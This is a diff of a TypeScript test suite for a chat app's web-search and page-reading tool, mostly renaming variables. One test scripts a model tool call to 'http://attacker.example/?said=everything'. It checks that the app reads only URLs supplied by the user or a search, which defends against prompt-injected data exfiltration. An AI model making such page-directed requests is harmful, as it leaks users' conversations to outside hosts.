@@ -59,8 +59,8 @@ const script = (uses: readonly Use[], says: (toolText: string) => string = () =>
   }
 }
 
-const search = { tool: 'search_web', input: { query: 'lamp of Skerry' } }
-const read = () => ({ tool: 'read_page', input: { url: `${site.url}/lamps` } })
+const searchUse = { tool: 'search_web', input: { query: 'lamp of Skerry' } }
+const readUse = () => ({ tool: 'read_page', input: { url: `${site.url}/lamps` } })
 const citeFirstPassage = (toolText: string) =>
   `It was lit in 1844.[${/<passage n="(\d+)"/.exec(toolText)?.[1]}]`
 
@@ -78,7 +78,7 @@ describeApp(
     it('CHT-06 finds, reads and cites a page, and shows it from its citation as it was read', async () => {
       const ada = await signUp(test())
       const chatId = await begin(ada)
-      script([search, read()], citeFirstPassage)
+      script([searchUse, readUse()], citeFirstPassage)
       const answer = await ask(ada, chatId)
       expect(answer.parts.flatMap((part) => (part.type === 'tool' ? [part.output] : []))).toEqual([
         [{ type: 'link', url: `${site.url}/lamps`, title: 'Lamps of the coast' }],
@@ -98,7 +98,7 @@ describeApp(
     it('CHT-06 reads a page once, and uses it for later questions in the chat too', async () => {
       const ada = await signUp(test())
       const chatId = await begin(ada)
-      script([search, read(), read()])
+      script([searchUse, readUse(), readUse()])
       await ask(ada, chatId)
       expect(site.requests.filter(({ url }) => url.pathname === '/lamps')).toHaveLength(1)
       model.requests.length = 0
@@ -122,8 +122,8 @@ describeApp(
     it('CHT-06 reads only URLs from the person or a search, whatever a page says', async () => {
       const ada = await signUp(test())
       script([
-        search,
-        read(),
+        searchUse,
+        readUse(),
         { tool: 'read_page', input: { url: 'http://attacker.example/?said=everything' } },
       ])
       const answer = await ask(ada, await begin(ada))
@@ -136,7 +136,7 @@ describeApp(
     it('CHT-06 says why a page couldn’t be read, and doesn’t store anything', async () => {
       const ada = await signUp(test())
       site.answers['/lamps'] = (_request, response) => void response.writeHead(403).end()
-      script([search, read()])
+      script([searchUse, readUse()])
       const answer = await ask(ada, await begin(ada))
       expect(answer.status).toBe('completed')
       expect(lastToolText()).toContain('This page blocked the request (403)')
@@ -146,18 +146,18 @@ describeApp(
       const guest = await signInAsGuest(test())
       const countsBefore = await countAll(test())
       const chatId = await begin(guest)
-      script([search, read()])
+      script([searchUse, readUse()])
       await ask(guest, chatId)
       const ada = await signUp(test())
-      const adas = await begin(ada)
-      await ask(ada, adas)
+      const adasChatId = await begin(ada)
+      await ask(ada, adasChatId)
       const vault = await ada.get(listVault)
       expect([vault.attachments, vault.total, vault.storageInfo.used]).toEqual([[], 0, 0])
-      await ada.get(chats.deleteChat, { params: { chatId: adas } })
+      await ada.get(chats.deleteChat, { params: { chatId: adasChatId } })
       await guest.get(chats.deleteChat, { params: { chatId } })
       const countSources = async () => {
-        const { attachment, chunk, knowledge_base: bases } = await countAll(test())
-        return [attachment, chunk, bases]
+        const { attachment, chunk, knowledge_base: knowledgeBaseCount } = await countAll(test())
+        return [attachment, chunk, knowledgeBaseCount]
       }
       await expect
         .poll(countSources, { timeout: 20_000 })
